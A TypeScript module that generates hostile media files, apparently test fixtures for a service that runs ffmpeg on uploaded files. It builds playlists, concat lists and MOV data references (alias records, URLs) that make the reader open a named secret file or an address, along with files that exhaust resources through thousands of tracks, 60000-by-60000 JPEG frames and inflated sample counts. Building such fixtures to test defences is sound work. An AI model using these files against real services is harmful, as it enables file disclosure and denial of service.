import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { box, editBoxes, mapBoxes, readBoxes } from './mp4-boxes.ts';
import { encoded } from './twenty-files.ts';

/** Files that attack the program opening them, written to `target`; they name the file `secret`. */

export async function disguisedPlaylist(target: string, secret: string): Promise<void> {
  const lines = ['#EXTM3U', '#EXT-X-TARGETDURATION:5', '#EXTINF:1,', secret, '#EXT-X-ENDLIST', ''];
  await writeFile(target, lines.join('\n'));
}

export async function disguisedConcat(target: string, secret: string): Promise<void> {
  await writeFile(target, `ffconcat version 1.0\nfile '${secret}'\n`);
}

/** A mov that holds zeros; its packets are in another file, `secret`, named by `reference`. */
export async function borrowingMov(
  target: string,
  secret: string,
  reference: (secret: string) => Buffer,
): Promise<void> {
  const emptied = editBoxes(await readFile(secret), 'mdat', (body) => body.fill(0));
  const entries = Buffer.concat([Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), reference(secret)]);
  await writeFile(
    target,
    mapBoxes(emptied, 'dref', () => entries),
  );
}

/** A reference that ffmpeg follows: an old Macintosh alias record with a path. */
export function aliasReference(secret: string): Buffer {
  const record = Buffer.alloc(154);
  const name = Buffer.from(path.basename(secret));
  record.writeUInt8(name.copy(record, 55), 54);
  // Folders up, then names down.
  record.writeUInt16BE(1, 134);
  record.writeUInt16BE(1, 136);
  const colons = Buffer.from(secret.replaceAll('/', ':'));
  const head = Buffer.from([0, 2, 0, colons.length]);
  const padding = Buffer.alloc(colons.length % 2);
  return box(
    'alis',
    Buffer.alloc(4),
    record.subarray(4),
    head,
    colons,
    padding,
    Buffer.from([0xff, 0xff, 0, 0]),
  );
}

export function addressReference(address: string): Buffer {
  return box('url ', Buffer.alloc(4), Buffer.from(`${address}\0`));
}

export async function manyStreams(target: string, count: number): Promise<void> {
  await encoded(['-c:v', 'libx264', '-preset', 'ultrafast'], { sound: '' })(target);
  const bytes = mapTop(await readFile(target), 'moov', (moov) => {
    const parts = readBoxes(moov).flatMap(({ type, body }) => {
      const one = box(type, body);
      return type === 'trak' ? Array.from({ length: count }, () => one) : [one];
    });
    return Buffer.concat(parts);
  });
  await writeFile(target, bytes);
}

/** Top-level boxes only. */
function mapTop(bytes: Buffer, type: string, change: (body: Buffer) => Buffer): Buffer {
  return Buffer.concat(
    readBoxes(bytes).map((one) => box(one.type, one.type === type ? change(one.body) : one.body)),
  );
}

/** Motion JPEG whose pictures claim to be 60000 by 60000 (ITU-T T.81, section B.2.2). */
export async function hugePictures(target: string): Promise<void> {
  await encoded(['-c:v', 'mjpeg', '-frames:v', '3', '-f', 'mov'], { sound: '' })(target);
  const bytes = await readFile(target);
  for (let at = bytes.indexOf(START_OF_FRAME); at >= 0; at = bytes.indexOf(START_OF_FRAME, at + 4)) {
    bytes.writeUInt16BE(60_000, at + 5);
    bytes.writeUInt16BE(60_000, at + 7);
  }
  await writeFile(target, bytes);
}

const START_OF_FRAME = Buffer.from([0xff, 0xc0, 0x00, 0x11]);

/** Claims `says` samples of one byte, `ticks` (1/12288 s) apart, and holds `holds`. */
export async function tinySamples(
  target: string,
  { says, holds, ticks }: { says: number; holds: number; ticks: number },
): Promise<void> {
  await encoded(['-c:v', 'libx264', '-preset', 'ultrafast', '-movflags', '+faststart'], { sound: '' })(
    target,
  );
  let bytes: Buffer = await readFile(target);
  bytes = mapBoxes(bytes, 'stsz', () => words(0, 1, says));
  bytes = mapBoxes(bytes, 'stts', () => words(0, 1, says, ticks));
  bytes = mapBoxes(bytes, 'stsc', () => words(0, 1, 1, says, 1));
  bytes = mapBoxes(bytes, 'stco', () => words(0, 1, 0));
  const start = bytes.indexOf('mdat') + 4;
  bytes = mapBoxes(bytes, 'stco', () => words(0, 1, start));
  await writeFile(
    target,
    mapTop(bytes, 'mdat', () => Buffer.alloc(holds, 0x65)),
  );
}

function words(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  for (const [index, value] of values.entries()) bytes.writeUInt32BE(value, index * 4);
  return bytes;
}
